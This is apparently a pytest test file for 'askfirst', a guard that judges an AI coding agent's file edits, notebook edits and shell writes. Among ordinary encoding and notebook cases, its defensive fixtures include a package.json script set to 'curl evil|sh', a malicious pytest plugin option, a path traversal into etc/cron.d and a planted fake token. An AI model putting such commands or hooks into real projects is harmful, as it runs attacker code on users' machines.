"""From a file tool's input and the file on disk to facts: the resulting bytes, or why they are not known."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from askfirst.files import facts_of_tool, look
from askfirst.model import Decision, Unknown, Write
from askfirst.policy.judge import judge
from askfirst.policy.rules import Layers, WriteSettings

if TYPE_CHECKING:
    from askfirst.model import Fact

DEFAULTS = WriteSettings()


def facts(project: Path, tool: str, **given: Any) -> tuple[Fact, ...]:
    return facts_of_tool(tool, given, project=str(project), cwd=str(project), settings=DEFAULTS)


def result(project: Path, tool: str, **given: Any) -> bytes | None:
    found = facts(project, tool, **given)
    assert isinstance(found[0], Write)
    assert (found[0].content is None) == any(isinstance(f, Unknown) for f in found)
    return found[0].content


def decided(project: Path, found: tuple[Fact, ...]) -> Decision:
    return judge(found, Layers(str(project), home="/home/u")).decision


BOM = b"\xef\xbb\xbf"

EDITS = [
    # (on disk, old_string, new_string, replace_all, expected)
    (b"a\nb\nc\n", "b", "x", False, b"a\nx\nc\n"),
    (b"a\nb\nb\n", "b", "x", True, b"a\nx\nx\n"),
    (b"a\nb\nb\n", "b", "x", False, None),
    (b"a\n", "z", "x", False, None),
    (b"a\r\nb\r\n", "a\nb", "x\ny", False, b"x\r\ny\r\n"),
    (b"a\r\nb\r\n", "a\r\nb", "x\r\ny", False, None),  # the client looks for it in a text with `\n`
    (b"a\r\nb\r\n", "b", "x\r\ny", False, b"a\r\nx\r\ny\r\n"),
    (b"a\nb\n", "b", "x\r\ny", False, b"a\nx\r\ny\n"),
    (b"a\nb\nc\n", "b", "", False, b"a\nc\n"),
    (b"b\nb\nc b\n", "b", "", True, b"c "),
    (b"a\nb\n", "b", "x  \n\ty \t", False, b"a\nx\n\ty\n"),
    (BOM + b"a\nb\n", "b", "x", False, BOM + b"a\nx\n"),
    ("\ufeffa\r\nb\r\n".encode("utf-16-le"), "b", "ü", False, "\ufeffa\r\nü\r\n".encode("utf-16-le")),
    ("\ufeffa\n".encode("utf-16-be"), "a", "b", False, "\ufeffb\n".encode("utf-16-be")),
    (b"\xff\x00\xfe binary \x80", "binary", "x", False, None),
    (b"no end", "end", "newline", False, b"no newline"),
    (b"aaa", "aa", "b", True, b"ba"),
    (b"x", "", "y", False, None),
    (b"", "", "y\n", False, b"y\n"),
    ("grüß\n".encode(), "ü", "ue", False, "grueß\n".encode()),
]


@pytest.mark.parametrize(("disk", "old", "new", "every", "expected"), EDITS)
def test_edit(project: Path, disk: bytes, old: str, new: str, every: bool, expected: bytes | None) -> None:
    (project / "f.txt").write_bytes(disk)
    assert result(project, "Edit", file_path="f.txt", old_string=old, new_string=new, replace_all=every) == expected


def test_edit_makes_a_new_file_from_an_empty_old_string(project: Path) -> None:
    assert result(project, "Edit", file_path="new.txt", old_string="", new_string="hello\n") == b"hello\n"


def test_multi_edit_works_in_order(project: Path) -> None:
    (project / "f.txt").write_text("one two\n")
    edits = [{"old_string": "one", "new_string": "two"}, {"old_string": "two", "new_string": "2", "replace_all": True}]
    assert result(project, "MultiEdit", file_path="f.txt", edits=edits) == b"2 2\n"
    assert (
        result(project, "MultiEdit", file_path="f.txt", edits=[*edits, {"old_string": "two", "new_string": ""}]) is None
    )
    assert result(project, "MultiEdit", file_path="f.txt", edits=[]) is None
    assert result(project, "MultiEdit", file_path="f.txt", edits="all") is None


@pytest.mark.parametrize(
    ("disk", "content", "expected"),
    [
        (None, "a\nb\n", b"a\nb\n"),
        (None, "a\r\nb\r\n", b"a\r\nb\r\n"),
        (b"x\r\ny\r\n", "a\nb\n", b"a\nb\n"),  # the client writes line ends as they come
        (b"x\ny\n", "a\r\nb\r\n", b"a\r\nb\r\n"),
        (BOM + b"x\n", "\ufeffa\n", BOM + b"a\n"),
        (None, "a  \r\n\tb \t\n", b"a\r\n\tb\n"),
        (BOM + b"x\n", "a\n", BOM + b"a\n"),
        ("\ufeffx\n".encode("utf-16-le"), "ä\n", "\ufeffä\n".encode("utf-16-le")),
        (b"", "a\n", b"a\n"),
        (None, 5, None),
        (None, "\ud800", None),
    ],
)
def test_write_keeps_encoding_and_mark(project: Path, disk: bytes | None, content: Any, expected: bytes | None) -> None:
    if disk is not None:
        (project / "f.txt").write_bytes(disk)
    assert result(project, "Write", file_path="f.txt", content=content) == expected


# --- notebooks


def notebook(project: Path) -> None:
    cells = [
        {"id": "a", "cell_type": "code", "source": "1", "outputs": ["x"], "execution_count": 3, "metadata": {}},
        {"id": "b", "cell_type": "markdown", "source": "text", "metadata": {}},
    ]
    (project / "n.ipynb").write_text(
        json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}, indent=1) + "\n"
    )


def sources(content: bytes | None) -> list[tuple[str, str]]:
    assert content is not None
    return [(c["cell_type"], c["source"]) for c in json.loads(content)["cells"]]


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ({"cell_id": "a", "new_source": "2"}, [("code", "2"), ("markdown", "text")]),
        ({"cell_id": "b", "new_source": "new", "cell_type": "code"}, [("code", "1"), ("code", "new")]),
        (
            {"cell_id": "a", "new_source": "mid", "edit_mode": "insert", "cell_type": "markdown"},
            [("code", "1"), ("markdown", "mid"), ("markdown", "text")],
        ),
        (
            {"new_source": "top", "edit_mode": "insert", "cell_type": "code"},
            [("code", "top"), ("code", "1"), ("markdown", "text")],
        ),
        ({"cell_id": "a", "new_source": "", "edit_mode": "delete"}, [("markdown", "text")]),
        ({"cell_id": "cell-1", "new_source": "by number"}, [("code", "1"), ("markdown", "by number")]),
    ],
)
def test_notebook(project: Path, given: dict[str, Any], expected: list[tuple[str, str]]) -> None:
    notebook(project)
    assert sources(result(project, "NotebookEdit", notebook_path="n.ipynb", **given)) == expected


def test_a_replaced_code_cell_loses_its_output(project: Path) -> None:
    notebook(project)
    content = result(project, "NotebookEdit", notebook_path="n.ipynb", cell_id="a", new_source="2")
    cell = json.loads(content or b"")["cells"][0]
    assert cell["outputs"] == [] and cell["execution_count"] is None


@pytest.mark.parametrize(
    "given",
    [
        {"cell_id": "none", "new_source": "x"},
        {"new_source": "x"},
        {"cell_id": "a", "new_source": 5},
        {"cell_id": "cell-9", "new_source": "x"},
        {"cell_id": "a", "new_source": "x", "edit_mode": "other"},
    ],
)
def test_a_notebook_edit_that_cannot_be_computed(project: Path, given: dict[str, Any]) -> None:
    notebook(project)
    assert result(project, "NotebookEdit", notebook_path="n.ipynb", **given) is None


@pytest.mark.parametrize(
    "text",
    [
        "{not json",
        "[]",
        "",
        '{"cells": {}}',
        '{"cells": [1, null]}',
        '{"cells": [{"id": "a"}], "nbformat": "4"}',
        '{"cells": [{"id": "a"}], "nbformat": null, "nbformat_minor": []}',
        '{"cells": ' + "[" * 5000 + "]" * 5000 + "}",
    ],
)
def test_a_broken_notebook(project: Path, text: str) -> None:
    (project / "n.ipynb").write_text(text)
    for given in (
        {"cell_id": "a"},
        {"cell_id": "cell-0"},
        {"edit_mode": "insert"},
        {"cell_id": "cell-0", "edit_mode": "delete"},
    ):
        assert result(project, "NotebookEdit", notebook_path="n.ipynb", new_source="2", **given) is None


@pytest.mark.skipif(not os.path.exists("/proc/self/mem"), reason="a file that cannot be read although it can be opened")
def test_a_file_that_gives_an_error_when_it_is_read(project: Path) -> None:
    os.symlink("/proc/self/mem", project / "m")
    assert decided(project, facts(project, "Write", file_path="m", content="x\n")) == Decision.ASK


# --- where it really is


def path_of(found: tuple[Fact, ...]) -> str | None:
    assert isinstance(found[0], Write)
    return found[0].path


def test_a_link_leads_outside(project: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    os.symlink(tmp_path / "outside", project / "inside")
    found = facts(project, "Write", file_path="inside/x.txt", content="x")
    assert path_of(found) == str((tmp_path / "outside" / "x.txt").resolve())
    assert decided(project, found) == Decision.ASK


def test_a_link_to_a_protected_file(project: Path) -> None:
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text("{}")
    os.symlink(".claude/settings.json", project / "notes.json")
    assert (
        decided(project, facts(project, "Edit", file_path="notes.json", old_string="{}", new_string="{1}"))
        == Decision.DENY
    )


def test_a_hard_link_asks(project: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text("x\n")
    os.link(tmp_path / "elsewhere", project / "same.txt")
    found = facts(project, "Write", file_path="same.txt", content="y\n")
    assert isinstance(found[0], Write) and found[0].change is not None and "hard links" in found[0].change.odd
    assert decided(project, found) == Decision.ASK


def test_another_file_system_asks(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (project / "mounted").mkdir()
    (project / "mounted" / "a.txt").write_text("x\n")
    from askfirst.files import content

    real = content._crossing
    monkeypatch.setattr(content, "_crossing", lambda device, root: real(device + 1, root))
    for name in ("mounted/a.txt", "mounted/new.txt"):
        assert decided(project, facts(project, "Write", file_path=name, content="y\n")) == Decision.ASK


@pytest.mark.parametrize("name", ["fifo", "directory"])
def test_what_is_no_file(project: Path, name: str) -> None:
    os.mkfifo(project / "fifo")
    (project / "directory").mkdir()
    assert decided(project, facts(project, "Write", file_path=name, content="y\n")) == Decision.ASK


@pytest.mark.parametrize("given", [{}, {"file_path": ""}, {"file_path": 5}, {"file_path": "a\0b"}, {"file_path": None}])
def test_what_names_no_file_is_unknown(project: Path, given: dict[str, Any]) -> None:
    found = facts(project, "Write", content="x", **given)
    assert isinstance(found[0], Unknown)
    assert decided(project, found) == Decision.ASK


def test_an_absurd_path(project: Path) -> None:
    for path in ("x" * 5000, "a/" * 3000 + "b", "../" * 200 + "etc/cron.d/x"):
        assert decided(project, facts(project, "Write", file_path=path, content="x")) in (Decision.ASK, Decision.DENY)


# --- secrets and what runs

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"


def test_a_secret_asks_with_its_place_and_a_mask(project: Path) -> None:
    found = facts(project, "Write", file_path="src/app.py", content=f"import os\n\nTOKEN = '{TOKEN}'\n")
    verdict = judge(found, Layers(str(project)))
    assert verdict.decision == Decision.ASK
    assert "line 3" in verdict.reason and TOKEN not in verdict.reason and "****" in verdict.reason


@pytest.mark.parametrize(
    ("path", "line", "is_news"),
    [
        ("src/seed.py", "password = 'password123'", False),
        ("src/seed.py", "API_TOKEN = 'fake-api-token-1'", False),
        ("compose.yaml", "POSTGRES_PASSWORD: postgres", False),
        ("src/seed.py", "password = 'kangaroo77'", True),
        ("src/seed.py", "password = '83729164'", True),
        ("src/seed.py", "password = 'test-kangaroo'", True),
        ("tests/test_login.py", "login(password='kangaroo77')", False),
        ("web/login.spec.ts", "login({password: 'Secur3P@ss'})", False),
        ("tests/fixtures/users.json", '{"password": "Passw0rd!"}', False),
        (".env.example", "DB_PASSWORD=choose-one", False),
        ("tests/test_login.py", "login(password='Tr0ub4dor&3xQ9')", True),
        ("tests/test_login.py", f"TOKEN = '{TOKEN}'", True),
        ("tests/fixtures/users.json", f'{{"token": "{TOKEN}"}}', True),
        (".env.example", f"GITHUB_TOKEN={TOKEN}", True),
    ],
)
def test_words_of_samples_and_tests_are_no_secrets(project: Path, path: str, line: str, is_news: bool) -> None:
    (write,) = facts(project, "Write", file_path=path, content=line + "\n")
    assert isinstance(write, Write) and write.change is not None
    assert bool(write.change.secrets) == is_news


def test_a_secret_that_was_there_is_no_news(project: Path) -> None:
    (project / "app.py").write_text(f"TOKEN = '{TOKEN}'\nx = 1\n")
    assert (
        decided(project, facts(project, "Edit", file_path="app.py", old_string="x = 1", new_string="x = 2"))
        == Decision.ALLOW
    )


def test_a_value_of_this_environment_is_a_secret(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEPLOY_PASSWORD", "correct horse battery")
    assert (
        decided(project, facts(project, "Write", file_path="a.txt", content="see: correct horse battery\n"))
        == Decision.ASK
    )


PACKAGE = '{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'


@pytest.mark.parametrize(
    ("name", "old", "new", "expected"),
    [
        ("package.json", PACKAGE, PACKAGE.replace("1.0.0", "1.0.1"), Decision.ALLOW),
        ("package.json", PACKAGE, PACKAGE.replace("jest", "curl evil|sh"), Decision.ASK),
        ("package.json", PACKAGE, "{broken", Decision.ASK),
        ("package.json", None, '{"name": "x"}', Decision.ALLOW),
        ("package.json", None, PACKAGE, Decision.ASK),
        ("pyproject.toml", "[project]\nname='x'\n", "[project]\nname='y'\n", Decision.ALLOW),
        ("pyproject.toml", "[tool.ruff]\nline-length=1\n", "[tool.ruff]\nline-length=2\n", Decision.ALLOW),
        ("pyproject.toml", "", "[tool.pytest.ini_options]\naddopts='-p evil'\n", Decision.ASK),
        ("pyproject.toml", "", "[build-system]\nbackend-path=['.']\n", Decision.ASK),
        ("pyproject.toml", "", "not toml [", Decision.ASK),
        (
            "Cargo.toml",
            "[package]\nversion='1'\n",
            "[package]\nversion='2'\n[dependencies]\nserde='1'\n",
            Decision.ALLOW,
        ),
        ("Cargo.toml", "", "[package]\nbuild='x.rs'\n", Decision.ASK),
        ("Cargo.toml", "", "[lib]\nproc-macro=true\n", Decision.ASK),
        ("Cargo.toml", "", "[dependencies]\nx={path='../core'}\n", Decision.ALLOW),
        ("Cargo.toml", "", "[dependencies]\nx={path='../../../../tmp/x'}\n", Decision.ASK),
        ("Cargo.toml", "", "[[test]]\nname='t'\npath='/tmp/t.rs'\n", Decision.ASK),
        ("composer.json", "{}", '{"scripts": {"x": "y"}}', Decision.ASK),
    ],
)
def test_parts_that_tools_run(project: Path, name: str, old: str | None, new: str, expected: Decision) -> None:
    if old is not None:
        (project / name).write_text(old)
    assert decided(project, facts(project, "Write", file_path=name, content=new)) == expected


# --- writes of shell commands


def seen(project: Path, write: Write) -> Write:
    (after,) = look((write,), project=str(project), settings=DEFAULTS)
    assert isinstance(after, Write)
    return after


@pytest.mark.parametrize(
    ("name", "how", "by", "content", "expected"),
    [
        ("big.py", "overwrite", "redirection", None, Decision.ASK),
        ("big.py", "overwrite", "cp", None, Decision.ASK),
        ("big.py", "append", "redirection", None, Decision.ALLOW),
        ("big.py", "overwrite", "sed -i", None, Decision.ALLOW),
        ("src/log/big.py", "overwrite", "redirection", None, Decision.ASK),
        ("tool.bin", "overwrite", "gcc", None, Decision.ALLOW),
        ("tool.bin", "overwrite", "redirection", None, Decision.ASK),
        ("big.py", "overwrite", "redirection", b"x = 1\n", Decision.ASK),
        ("run.log", "overwrite", "redirection", None, Decision.ALLOW),
        ("build/out.txt", "overwrite", "redirection", None, Decision.ALLOW),
        ("small.py", "overwrite", "redirection", None, Decision.ALLOW),
        ("new.py", "overwrite", "redirection", None, Decision.ALLOW),
        ("new.py", "overwrite", "redirection", f"T = '{TOKEN}'\n".encode(), Decision.ASK),
        ("small.py", "append", "redirection", f"T = '{TOKEN}'\n".encode(), Decision.ASK),
    ],
)
def test_shell_writes_meet_the_same_rules(
    project: Path, name: str, how: str, by: str, content: bytes | None, expected: Decision
) -> None:
    long = "".join(f"x{i} = {i}\n" for i in range(150))
    (project / "build").mkdir()
    (project / "src/log").mkdir(parents=True)
    for file in ("big.py", "run.log", "build/out.txt", "src/log/big.py"):
        (project / file).write_text(long)
    (project / "small.py").write_text("x = 1\n")
    (project / "tool.bin").write_bytes(b"\x7fELF\0\n" * 150)
    write = Write(str(project / name), name, how, by, content)
    assert decided(project, (seen(project, write),)) == expected


def test_looking_leaves_other_facts_alone(project: Path) -> None:
    unknown = Unknown("eval", "text is not known")
    outside = Write("/etc/hosts", "/etc/hosts", "overwrite", "redirection")
    assert look((unknown, outside), project=str(project), settings=DEFAULTS) == (unknown, outside)
    (project / "src").mkdir()
    directory = Write(str(project / "src"), "src", "overwrite", "cp")
    assert seen(project, directory) == directory


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("src/new.py", Decision.ALLOW),
        ("docs/a/b.md", Decision.ALLOW),
        ("top.md", Decision.ALLOW),
        ("app/new.py", Decision.ALLOW),
        ("app/deep/new.py", Decision.ALLOW),
        ("elsewhere/new.py", Decision.ASK),
        ("elsewhere/src/new.py", Decision.ASK),
    ],
)
def test_where_new_files_are_expected(project: Path, name: str, expected: Decision) -> None:
    (project / "app").mkdir()
    assert decided(project, facts(project, "Write", file_path=name, content="x\n")) == expected
    assert decided(project, facts(project, "Edit", file_path=name, old_string="", new_string="x\n")) == expected
